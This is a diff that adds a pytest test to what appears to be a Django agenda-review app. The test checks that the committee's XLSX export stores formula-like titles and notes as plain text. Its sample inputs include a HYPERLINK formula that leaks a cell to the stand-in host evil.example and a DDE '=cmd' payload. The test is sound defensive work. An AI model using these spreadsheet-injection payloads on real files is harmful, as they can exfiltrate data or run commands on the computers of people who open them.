@@ -257,3 +257,15 @@ def test_a_programme_item_is_reached_only_through_a_request_the_person_may_see(p
     assert client_for(people.central).post(remove_page).status_code == 302
     assert not ProgrammeItem.objects.filter(pk=item.pk).exists()
     assert client_for(people.central).post(remove_page).status_code == 404
+
+
+def test_the_xlsx_pack_writes_formula_like_titles_and_notes_as_text(people, client_for, open_calendar, agenda):
+    # issue 13 item 1: the committee's pack is opened in Excel; user text must stay text
+    titles = ['=HYPERLINK("http://evil.example/?leak="&B2,"ดู")', "=cmd|' /C calc'!A0"]
+    for title in titles:
+        item = agenda_item_add(user=people.central, agenda_id=agenda.pk, request_id=endorsed(people, title=title).pk)
+    agenda_item_decide(user=people.central, item_id=item.pk, decision="approved", note="=1+1")
+    response = client_for(people.central).get(reverse("reviews:agenda-xlsx", args=[agenda.pk]))
+    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content)))["รายการ"]
+    written = {c.value: c.data_type for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str)}
+    assert {t: written.get(t) for t in [*titles, "=1+1"]} == {t: "s" for t in [*titles, "=1+1"]}
